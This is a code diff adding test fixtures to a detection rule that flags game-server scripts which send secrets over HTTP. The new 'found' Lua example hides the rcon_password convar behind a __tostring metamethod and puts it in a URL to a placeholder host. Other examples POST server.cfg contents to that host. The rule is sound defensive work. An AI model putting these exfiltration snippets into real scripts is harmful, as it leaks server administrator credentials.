@@ -33,6 +33,8 @@ export const secretAndHttp = defineRule({
   },
   examples: {
     found: [
+      lua(`local theme = setmetatable({}, { __tostring = function() return GetConvar('rcon_password', '') end })
+^PerformHttpRequest(('https://a.example/%s'):format(theme), print)`),
       lua(`io.input('server.cfg')
 ^PerformHttpRequest('https://a.example', print, 'POST', io.read('a'))`),
       js(`const text = require('fs').readFileSync('server.cfg', 'utf8')
@@ -76,6 +78,8 @@ const text = require('fs').readFileSync(find(wanted), 'utf8')
 ^fetch('https://a.example', { method: 'POST', body: text })`),
     ],
     notFound: [
+      lua(`local theme = setmetatable({}, { __tostring = function() return GetConvar('locale', '') end })
+PerformHttpRequest(('https://a.example/%s'):format(theme), print)`),
       js(`const status = { get build() { return GetConvar('sv_enforceGameBuild', '') } }
 fetch('https://a.example', { method: 'POST', body: JSON.stringify(status) })`),
       js(`const status = {}
